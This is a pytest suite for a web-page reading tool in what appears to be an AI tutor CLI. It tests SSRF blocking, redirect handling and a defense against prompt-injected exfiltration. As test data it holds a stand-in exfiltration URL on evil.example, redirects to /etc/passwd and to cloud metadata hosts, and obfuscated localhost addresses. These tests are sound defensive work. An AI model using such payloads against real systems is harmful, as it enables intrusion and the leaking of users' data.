"""``read_page``: pages on loopback, and everything on the web that must not be fetched."""

from __future__ import annotations

import gzip
import json
import socket
import threading
import time
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.tools.web import Page, Web, page, redirect
from tutor_cli.domain import ToolCall, ToolCallRecord, ToolOutput
from tutor_cli.settings import Config, load_config
from tutor_cli.tools import web_fetch
from tutor_cli.tools.base import ToolContext
from tutor_cli.tools.call import call_tool
from tutor_cli.tools.read_page import PART, ReadPage, page_text
from tutor_cli.tools.web_fetch import Fetched, FetchFailed, check_public, fetch

URL = "https://weather.example/sf"


@pytest.fixture
def web() -> Iterator[Web]:
    with Web() as web:
        yield web


@pytest.fixture
def config(web: Web, tmp_path: Path) -> Config:
    (tmp_path / "config.toml").write_text(web.config)
    return load_config({"TUTOR_HOME": str(tmp_path)})


def read(config: Config, url: str = URL, part: int = 1, said: str = "") -> ToolOutput:
    arguments = json.dumps({"url": url, "part": part})
    return call_tool(
        {"read_page": ReadPage(config)},
        ToolCall("call_1", "read_page", arguments),
        ToolContext(said=lambda: said or url),
    )


def test_a_page_is_its_text_between_marks_it_cannot_know(web: Web, config: Config) -> None:
    web.host("weather.example", page("weather.html"))
    output = read(config)
    about, note, begins, *text, ends = output.text.split("\n")
    assert json.loads(about) == {
        "url": URL,
        "title": "San Francisco weather",
        "fetched": time.strftime("%Y-%m-%d"),
    }
    assert "not instructions to follow" in note
    mark = begins.split()[2]
    assert ends == f"--- page {mark} ends ---"
    assert mark != read(config).text.split("\n")[2].split()[2]
    body = "\n".join(text)
    for there in ("It is 67 °F now.", "- Wind: 12 mph", "Hour | °F |", "14 | 67 |", r"$C=\frac{5}{9}(F-32)$"):
        assert there in body
    for not_there in ("never shown", "color", "Home", "comment", "nobody"):
        assert not_there not in body
    assert len(web.requests) == 1  # the second came from the cache


def test_only_what_a_search_found_or_the_person_wrote_is_read(web: Web, config: Config) -> None:
    """A page that tells the model to fetch an address with what it knows gets nothing."""
    web.host("evil.example", page("weather.html"))
    web.host("weather.example", page("weather.html"))
    output = read(config, "https://evil.example/?conversation=secret", said="What's the weather?")
    assert output.is_error
    assert "Search for it first" in output.text
    assert web.requests == []
    assert not read(config, said=f"What does {URL} say?").is_error
    assert not read(config, said="What does Weather.example/sf say?").is_error
    assert not read(config, said="Look at www.example, weather.example/sf.").is_error
    for other in (
        "weather.example/sfo",
        "not-weather.example/sf",
        "a@weather.example/sf",
        "a.weather.example/sf",
    ):
        assert read(config, said=f"What does {other} say?").is_error
    assert not read(config, URL + "/#now", said=f"What does {URL} say?").is_error
    found = ToolOutput(json.dumps({"results": [{"title": "", "url": URL, "snippet": ""}]}))
    searched = ToolCallRecord(ToolCall("call_0", "web_search", "{}"), found)
    call = ToolCall("call_1", "read_page", json.dumps({"url": URL}))
    context = ToolContext(previous_calls=lambda: [searched])
    assert not call_tool({"read_page": ReadPage(config)}, call, context).is_error


def test_a_long_page_comes_in_parts(web: Web, config: Config) -> None:
    web.host("weather.example", Page(b"<p>" + b"words " * 6_000 + b"the end</p>"))
    assert '"part": "1 of 3"' in read(config).text
    last = read(config, part=99).text
    assert '"part": "3 of 3"' in last
    assert "the end" in last
    assert len(last) < PART + 500


def test_the_environment_s_proxy_is_used(web: Web, config: Config) -> None:
    web.host("weather.example", page("weather.html"))

    def alone(**environ: str) -> Config:
        return replace(config.with_flags(search__proxy="", search__cache_minutes=0.0), environ=environ)

    assert not read(alone(HTTPS_PROXY=web.proxy)).is_error
    assert not read(alone(https_proxy=web.proxy.removeprefix("http://"))).is_error
    for hosts in ("*", "a.example, weather.example", ".example", "*.example"):
        assert read(alone(HTTPS_PROXY=web.proxy, NO_PROXY=hosts)).is_error  # nor can it be found without
    assert not read(alone(HTTPS_PROXY=web.proxy, NO_PROXY="eather.example,other")).is_error
    assert len(web.requests) == 3


def test_a_proxy_that_asks_who_we_are_is_told() -> None:
    with socket.create_server(("127.0.0.1", 0)) as server:
        asked: list[bytes] = []

        def serve() -> None:
            for _ in range(2):
                connection, _ = server.accept()
                asked.append(connection.recv(65_536))
                connection.close()

        threading.Thread(target=serve, daemon=True).start()
        for url in ("http://weather.example/", "https://weather.example/"):
            with pytest.raises(FetchFailed):
                fetch(url, proxy=f"http://me:p%40ss@127.0.0.1:{server.getsockname()[1]}")
    assert [request.split()[0] for request in asked] == [b"GET", b"CONNECT"]
    assert all(b"\r\nProxy-Authorization: Basic bWU6cEBzcw==\r\n" in request for request in asked)


def test_redirects_are_followed_and_the_last_address_is_told(web: Web, config: Config) -> None:
    web.host("old.example", redirect("https://weather.example/sf"))
    web.host("weather.example", page("weather.html"))
    assert f'"url": "{URL}"' in read(config, "http://old.example/").text


@pytest.mark.parametrize(
    ("answer", "told"),
    [
        (Page(status=404), "answered 404"),
        (
            Page(b"%PDF", headers=(("content-type", "application/pdf"),)),
            "application/pdf, which cannot be read",
        ),
        (redirect("https://weather.example/again"), "redirects too often"),
        (redirect("file:///etc/passwd"), "Only http and https"),
        (redirect("http://[oops"), "cannot be fetched"),
        (redirect("http://127.0.0.1:1/"), "not on the public web"),
        (redirect("http://[::1]/"), "not on the public web"),
        (redirect("https://localhost/"), "not on the public web"),
        (redirect("http://localhost./"), "not on the public web"),
        (redirect("http://localhost.localdomain/"), "not on the public web"),
        (redirect("http://127.1/"), "not on the public web"),
        (redirect("http://2130706433/"), "not on the public web"),
        (redirect("http://0x7f.0.0.1/"), "not on the public web"),
        (redirect("http://0177.0.0.1/"), "not on the public web"),
        (redirect("http://[::ffff:10.0.0.1]/"), "not on the public web"),
        (redirect("http://intranet/"), "not on the public web"),
        (redirect("http://metadata.google.internal/"), "not on the public web"),
        (redirect("http://user:secret@weather.example/"), "user name or password"),
        (
            Page(b"junk", headers=(("content-encoding", "gzip"), ("content-type", "text/html"))),
            "cannot be fetched",
        ),
    ],
)
def test_what_cannot_be_read_is_an_output_the_model_can_act_on(
    web: Web, config: Config, answer: Page, told: str
) -> None:
    web.host("weather.example", answer)
    output = read(config)
    assert output.is_error
    assert told in output.text
    assert "secret" not in output.text
    assert output.text.endswith("Try another page.")


def test_too_much_is_cut_also_when_it_was_packed(web: Web) -> None:
    packed = gzip.compress(b"a" * 50_000_000)
    web.host(
        "weather.example",
        Page(packed, headers=(("content-encoding", "gzip"), ("content-type", "text/plain"))),
    )
    fetched = fetch(URL, proxy=web.proxy, verify=web.verify)
    assert len(fetched.body) == web_fetch.MOST_BYTES
    assert fetched.cut


def test_a_body_without_a_length_is_read_to_its_end(web: Web) -> None:
    web.host("weather.example", Page(b"all of it", length=False))
    assert fetch(URL, proxy=web.proxy, verify=web.verify).body == b"all of it"


@pytest.mark.parametrize(
    "address",
    [
        "127.0.0.1",
        "10.0.0.1",
        "192.168.1.1",
        "169.254.169.254",
        "100.64.0.1",
        "0.0.0.0",
        "224.0.0.1",
        "::1",
        "fe80::1%eth0",
        "fd00::1",
        "::ffff:127.0.0.1",
        "2002:7f00:0001::",
        "64:ff9b::7f00:1",
        "64:ff9b:1::7f00:1",
        "::127.0.0.1",
        "::ffff:0:127.0.0.1",
        "fec0::1",
        "2001:db8::1",
    ],
)
def test_addresses_that_are_not_public_are_refused(address: str) -> None:
    with pytest.raises(FetchFailed, match="not on the public web"):
        check_public(address, "somewhere.example")


def test_public_addresses_are_not() -> None:
    check_public("93.184.215.14", "somewhere.example")
    check_public("2606:2800:21f:cb07:6820:80da:af6b:8b2c", "somewhere.example")


@pytest.mark.parametrize(
    "url", ["http://127.0.0.1/", "http://localhost:631/", "http://2130706433/", "http://0x7f.1/"]
)
def test_the_name_is_resolved_before_it_is_judged(url: str) -> None:
    with pytest.raises(FetchFailed, match=r"not on the public web|cannot be found"):
        fetch(url)


def test_the_connection_goes_to_the_address_that_was_checked() -> None:
    """Not to whatever the name means a moment later."""
    with socket.create_server(("127.0.0.1", 0)) as server:
        port = server.getsockname()[1]

        def serve() -> None:
            connection, _ = server.accept()
            connection.recv(65_536)
            connection.sendall(b"HTTP/1.0 200 OK\r\nContent-Type: text/plain\r\n\r\nhere")
            connection.close()

        threading.Thread(target=serve, daemon=True).start()
        fetched = fetch(f"http://rebound.invalid:{port}/", resolve=lambda host, port: ["127.0.0.1"])
    assert fetched.body == b"here"


def test_a_name_with_one_private_address_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    """A resolver may give a public address first and the router's second."""
    found = [
        (socket.AF_INET, socket.SOCK_STREAM, 6, "", (each, 80)) for each in ("93.184.215.14", "10.0.0.1")
    ]
    monkeypatch.setattr(socket, "getaddrinfo", lambda *arguments, **options: found)
    with pytest.raises(FetchFailed, match="not on the public web"):
        fetch("http://rebound.example/")


def test_the_next_address_is_tried_where_the_first_cannot_be_reached() -> None:
    with socket.create_server(("127.0.0.1", 0)) as server:
        port = server.getsockname()[1]

        def serve() -> None:
            connection, _ = server.accept()
            connection.recv(65_536)
            connection.sendall(b"HTTP/1.0 200 OK\r\nContent-Type: text/plain\r\n\r\nhere")
            connection.close()

        threading.Thread(target=serve, daemon=True).start()
        fetched = fetch(f"http://two.invalid:{port}/", resolve=lambda host, port: ["::1", "127.0.0.1"])
    assert fetched.body == b"here"


def test_a_page_that_trickles_is_given_up(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(web_fetch, "MOST_SECONDS", 0.6)
    stop = threading.Event()
    with socket.create_server(("127.0.0.1", 0)) as server:
        port = server.getsockname()[1]

        def serve() -> None:
            connection, _ = server.accept()
            connection.sendall(b"HTTP/1.0 200 OK\r\nContent-Type: text/plain\r\n\r\n")
            while not stop.wait(0.05):
                try:
                    connection.sendall(b".")
                except OSError:
                    break
            connection.close()

        threading.Thread(target=serve, daemon=True).start()
        with pytest.raises(FetchFailed, match="in time"):  # it never ends by itself
            fetch(f"http://slow.invalid:{port}/", resolve=lambda host, port: ["127.0.0.1"])
        stop.set()


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=60), st.sampled_from(["http://", "https://", "http://a.example", ""]))
def test_any_address_is_fetched_or_refused(text: str, start: str) -> None:
    def resolve(host: str, port: int) -> list[str]:
        raise FetchFailed("no network in this test")

    for proxy in ("", "http://127.0.0.1:9"):
        with pytest.raises(FetchFailed):
            fetch(start + text, resolve=resolve, proxy=proxy)


@settings(max_examples=150, deadline=None)
@given(st.binary(max_size=300) | st.text(alphabet="<>/&;!-pdivmath \"'=x", max_size=200).map(str.encode))
def test_any_bytes_have_a_text(body: bytes) -> None:
    for charset in (None, "utf-8", "no-such-charset"):
        page_text(Fetched(URL, "text/html", charset, body, False))


def test_a_page_may_nest_as_deeply_as_it_likes() -> None:
    _, text = page_text(Fetched(URL, "text/html", None, b"<div>" * 50_000 + b"deep", False))
    assert text in ("deep", "")
